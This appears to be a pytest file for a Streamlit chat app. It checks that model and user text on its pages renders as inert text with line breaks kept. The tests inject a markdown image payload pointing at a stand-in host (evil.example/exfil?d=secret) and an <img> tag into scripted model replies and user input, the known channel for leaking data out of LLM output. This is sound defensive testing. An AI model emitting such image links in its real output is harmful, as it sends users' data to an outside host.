"""Model and user text on the pages renders without images or links (issue #8) and keeps its line
breaks (issue #10)."""
import json

from markdown_it import MarkdownIt

from core.llm.scripted import ScriptedClient

EXFIL = "![x](http://evil.example/exfil?d=secret)"
RENDER = MarkdownIt("commonmark").enable(["table", "strikethrough"])


def shown_markdown(at) -> list[str]:
    """Every string the page hands to Streamlit's markdown renderer (bodies, captions, labels)."""
    values = [m.value for m in at.markdown] + [c.value for c in at.caption]
    values += [c.label for c in at.checkbox] + [e.label for e in at.expander]
    return values


def assert_inert(at) -> None:
    for value in shown_markdown(at):
        page = RENDER.render(value)
        assert "://" not in value and "<img" not in page and "<a " not in page, value


def test_knowledge_chat_and_card_never_render_model_images_or_links(app):
    turn = {"control": {"schema_version": "1.0", "mode": "finalize"},
            "state": {"phase": "draft_knowledge", "missing_info": [f"条文例 {EXFIL}"]},
            "assistant_message": f"草案です。\n■ タイトル: 損害賠償\n{EXFIL}\n詳しくは https://evil.example/x を参照",
            "knowledge_json": {"contract_type": "業務委託契約", "knowledge_title": f"損害賠償 {EXFIL}",
                               "target_clause": "第8条", "review_points": "r", "action_plan": "a", "clause_sample": "c"}}
    app.session_state["llm_client"] = ScriptedClient([json.dumps(turn, ensure_ascii=False)])
    app.chat_input[0].set_value(f"事例です\n<img src=http://evil.example/u.png>\n{EXFIL}").run()
    assert not app.exception
    assert_inert(app)
    user, assistant = (m.markdown[0].value for m in app.chat_message)
    assert "事例です\\\n&lt;img src=http:／／evil.example/u.png&gt;\\\nx" == user
    assert assistant.startswith("草案です。\\\n■ タイトル: 損害賠償\\\nx\\\n")  # line breaks kept, image → alt text
    assert any(m.value.startswith("#### 損害賠償 !\\[x\\]") for m in app.markdown)


def test_faq_user_message_is_shown_as_text(app):
    app.switch_page("pages/faq.py").run()
    app.chat_input(key="faq_input").set_value(f"オイル交換の目安は？ {EXFIL}").run()
    assert not app.exception
    assert_inert(app)
    assert app.chat_message[0].markdown[0].value == "オイル交換の目安は？ x"
